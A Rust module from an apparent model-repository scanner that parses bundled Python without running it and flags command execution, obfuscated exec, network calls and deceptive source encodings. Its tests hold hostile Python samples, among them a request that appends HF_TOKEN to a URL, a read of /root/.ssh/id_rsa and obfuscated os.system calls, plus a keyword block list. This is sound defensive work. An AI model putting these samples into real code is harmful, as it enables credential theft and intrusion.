//! Python that a model brings along (`auto_map`, `setup.py`, notebooks): parsed, never run. Calm
//! code is fine; what reaches shells, sockets, hidden code or other people's files is not, least of
//! all where it runs on mere import.

mod constant;
mod does;
mod look;

use ruff_python_parser::parse_module;

use crate::finding::{Level, Rule};
use crate::scan::Detection;
use crate::scan::code::depth;

pub(in crate::scan) const UNSAFE: Rule = Rule {
    id: "unsafe-code",
    level: Level::Error,
    summary: "Python among the model's files that runs commands, hidden code or talks to strangers",
    reason: "`trust_remote_code=True` runs it with everything the user may do.",
    fix: "remove the call; a model's code computes, and leaves fetching and installing to its user",
    example: "os.system(…) in modeling_custom.py",
};

pub(in crate::scan) const DOUBTFUL: Rule = Rule {
    id: "doubtful-code",
    level: Level::Warning,
    summary: "Python among the model's files that reads from the network or loads files that run code",
    reason: "It is usual in some models' code, and a way in all the same.",
    fix: "load files through the library (`from_pretrained`, safetensors) instead",
    example: "requests.get(…) in a processor",
};

pub(in crate::scan) const UNREADABLE: Rule = Rule {
    id: "unreadable-code",
    level: Level::Warning,
    summary: "a Python file that cannot be parsed",
    reason: "What cannot be parsed cannot be known to be harmless.",
    fix: "mend the syntax error",
    example: "a file cut in the middle",
};

/// What running this source would do.
pub(in crate::scan) fn scan(source: &str) -> Vec<Detection> {
    // Interpreters that take a NUL at all take it for an end, and what is behind it for nothing.
    let source = source.trim_start_matches('\u{feff}').replace('\0', "\n");
    let mut found: Vec<_> = hiding_encoding(&source).into_iter().collect();
    found.extend(depth::within(&source, parse));
    found
}

/// An encoding declared in the first two lines (PEP 263) in which ASCII is not ASCII: the text
/// that runs is another than the text that is read.
fn hiding_encoding(source: &str) -> Option<Detection> {
    for (number, line) in source.lines().take(2).enumerate() {
        let comment = line.trim_start().strip_prefix('#')?;
        let Some((_, declared)) = comment.split_once("coding") else { continue };
        let Some(name) = declared.strip_prefix([':', '=']) else { continue };
        let name: String = name
            .trim_start()
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || "-_.".contains(*c))
            .collect();
        let plain = name.to_lowercase().replace('_', "-");
        let contains_ascii = PLAIN_ENCODINGS.iter().any(|known| plain.starts_with(known))
            && plain != "utf-7"
            && !plain.starts_with("utf-16");
        if !contains_ascii {
            let message = format!("its encoding `{name:.40}` hides what it says");
            let line = u32::try_from(number + 1).unwrap_or(u32::MAX);
            return Some(Detection::on_line(&UNSAFE, message, line, 1));
        }
    }
    None
}

/// Beginnings of the names of encodings that contain ASCII.
const PLAIN_ENCODINGS: [&str; 17] = [
    "utf-8",
    "utf8",
    "u8",
    "latin",
    "l1",
    "iso-8859",
    "iso8859",
    "ascii",
    "us-ascii",
    "cp125",
    "windows-125",
    "gb",
    "big5",
    "euc",
    "koi8",
    "shift",
    "mac",
];

fn parse(source: &str) -> Vec<Detection> {
    let parsed = match parse_module(source) {
        Ok(parsed) => parsed,
        Err(error) => {
            let at = error.location.start().to_usize();
            let message = format!("it cannot be parsed: {}", error.error);
            let rule = if looks_unsafe(source) { &UNSAFE } else { &UNREADABLE };
            return vec![on(rule, message, source, at)];
        }
    };
    look::look(&parsed.syntax().body, source)
}

/// A file that only Python 2 or nobody parses is judged by its words.
fn looks_unsafe(source: &str) -> bool {
    ["os.system", "subprocess", "exec(", "eval(", "socket", "__import__", "exec \""]
        .iter()
        .any(|word| source.contains(word))
}

fn on(rule: &'static Rule, message: String, source: &str, at: usize) -> Detection {
    let before = source.get(..at).unwrap_or(source);
    let line = before.matches('\n').count() + 1;
    let column = before.rsplit('\n').next().map_or(0, |line| line.chars().count()) + 1;
    Detection::on_line(
        rule,
        message,
        u32::try_from(line).unwrap_or(u32::MAX),
        u32::try_from(column).unwrap_or(u32::MAX),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(source: &str) -> Vec<&'static str> {
        scan(source).iter().map(|seen| seen.rule.id).collect()
    }

    #[test]
    fn what_runs_commands_hidden_code_or_talks() {
        for source in [
            "import os\nos.system('id')\n",
            "def forward(self, x):\n    import subprocess as sp\n    sp.run(['id'])\n",
            "from os import system as s\ns('id')\n",
            "import os\nrun = os.popen\ndef f():\n    run('id')\n",
            "__import__('os').system('id')\n",
            "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n",
            "import importlib\nimportlib.import_module('os').system('id')\n",
            "import sys\nsys.modules['os'].system('id')\n",
            "import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n",
            "exec(bytes.fromhex('6964').decode())\n",
            "import socket\ndef f():\n    s = socket.socket()\n",
            "import urllib.request\nurllib.request.urlopen('http://x')\n",
            "import os, requests\ndef f():\n    requests.get('http://x?' + os.environ['HF_TOKEN'])\n",
            "import requests\ndef f(x):\n    requests.post('http://x', json=x)\n",
            "class A:\n    import os\n    os.system('id')\n",
            "def f(x=__import__('os').system('id')): pass\n",
            "import os\ngetattr(os, name)('id')\n",
            "print 'hi'; import os; os.system('id')\n",
            "open('/root/.ssh/id_rsa').read()\n",
        ] {
            assert!(rules(source).contains(&"unsafe-code"), "{source}: {:?}", rules(source));
        }
        let seen = &scan("import os\n\nif True:\n    os.system('id')\n")[0];
        assert_eq!((seen.line, seen.column), (Some(4), Some(5)));
    }

    #[test]
    fn calm_code() {
        let source = "import math\nimport os\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nclass Net(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        self.layer = nn.Linear(2, 2)\n        self.path = os.path.join('a', 'b')\n        self.debug = os.environ.get('DEBUG')\n\n    def forward(self, x):\n        self.eval()\n        fn = getattr(torch, self.config.dtype)\n        with open(self.path) as f:\n            f.read()\n        return torch.compile(self.layer)(x)\n";
        assert_eq!(rules(source), Vec::<&str>::new());
        assert_eq!(
            rules("import requests\ndef f(u):\n    return requests.get(u).content\n"),
            ["doubtful-code"]
        );
        assert_eq!(rules("def f(:\n"), ["unreadable-code"]);
    }
}
